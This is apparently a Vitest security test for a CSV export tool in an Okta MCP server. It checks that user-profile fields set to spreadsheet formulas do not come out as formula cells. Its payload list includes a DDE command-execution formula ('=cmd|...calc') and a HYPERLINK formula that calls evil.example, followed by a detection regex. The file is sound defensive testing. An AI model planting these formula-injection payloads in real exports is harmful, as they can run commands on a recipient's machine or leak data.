import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import { sessionOf } from "../e2e/support/tool-case.js";

const directory = mkdtempSync(join(tmpdir(), "okta-mcp-attack-"));
afterAll(() => rmSync(directory, { recursive: true }));
const session = sessionOf({ sandbox: { users: 20, events: 20 }, env: { OKTA_EXPORT_DIR: directory } });

/** What spreadsheets take for a formula, or for the end of a cell before one. */
const FORMULAS = [
  "=cmd|'/C calc'!A0+1+1",
  '=HYPERLINK("http://evil.example/?x="&1+1,"open")',
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  '"=1+1',
  '","=1+1',
  "\r\n=1+1,x",
  ";=1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "x;=1+1;",
  "x\n\t=1+1",
];

/** The cells that a spreadsheet makes of the file: by RFC 4180, or cut at each semicolon, whatever is quoted. */
function cells(text: string): string[] {
  const quoted = [...text.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)];
  return [
    ...quoted.map(([, inner, plain]) => inner?.replaceAll('""', '"') ?? plain ?? ""),
    ...text.split(/\r\n|;/).map((cell) => cell.replace(/^"/, "")),
  ];
}

/** White space and invisible characters in front are skipped by some. */
const isFormula = (cell: string): boolean => /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(cell);

test.each(FORMULAS)("a name that is the formula %j starts no formula in the file", async (formula) => {
  const { sandbox, ok } = session();
  const [first] = sandbox.org.users.all;
  if (!first) throw new Error("The org has no users.");
  sandbox.org.setProfile(first, { ...first.profile, firstName: formula, [formula]: formula });
  const file = `users-${FORMULAS.indexOf(formula)}.csv`;
  await ok("export_records", { tool: "list_users", file, fields: ["profile.firstName", "id", "profile"] });
  const text = readFileSync(join(directory, file), "utf8");
  expect(text).toContain("1+1");
  expect(cells(text).filter(isFormula)).toEqual([]);
});

test("the check knows a formula when it sees one", () => {
  expect(cells('a,=1\r\n"\t@x",b;-1\r\n').filter(isFormula)).toEqual(["=1", "\t@x", '\t@x",b', "-1"]);
});
